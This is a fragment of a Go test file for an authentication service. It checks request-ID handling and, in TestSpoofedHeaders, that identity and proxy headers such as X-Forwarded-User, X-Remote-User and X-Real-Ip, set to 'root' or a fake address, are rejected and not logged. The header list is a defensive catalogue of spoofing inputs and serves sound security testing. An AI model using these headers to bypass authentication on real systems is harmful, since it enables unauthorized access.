		got := a.header.Get("X-Request-Id")
		if got == id || !regexp.MustCompile(`^[\w.-]{8,64}$`).MatchString(got) || made[got] {
			t.Errorf("%q came back as %q", id, got)
		}
		made[got] = true
	}
	// The log speaks of the same request.
	f.post(0, "/auth/token", header("X-Request-Id", "this-very-one"), form("username", "nobody", "password", "wrong"))
	if n := strings.Count(f.log.String(), `"request_id":"this-very-one"`); n != 1 {
		t.Errorf("%d log lines of this request", n)
	}
}

// Headers by which clients might claim to be somebody or somewhere else.
func TestSpoofedHeaders(t *testing.T) {
	t.Parallel()
	f := start(t, setup{replicas: 1, settings: func(s *handlers.Settings) { s.AllowedOrigins = []string{"https://app.example.com"} }})
	s := f.login(0)
	for _, name := range []string{
		"X-Auth-Subject", "X-Auth-Session", "X-Auth-Scope", "X-Forwarded-User", "X-Remote-User", "X-Original-Url", "X-Rewrite-Url",
		"X-Http-Method-Override", "X-Forwarded-Host", "X-Forwarded-Proto", "Forwarded", "X-Real-Ip", "X-Appengine-Remote-Addr", "CF-Connecting-IP",
	} {
		f.get(0, "/auth/verify", header(name, "root")).is(http.StatusUnauthorized)
		a := f.get(0, "/auth/verify", bearer(s.access), header(name, "192.0.2.99")).is(http.StatusNoContent)
		a.hasHeader("X-Auth-Subject", alice)
	}
	if strings.Contains(f.log.String(), "192.0.2.99") {
		t.Error("an address that was only claimed was believed")
	}
}
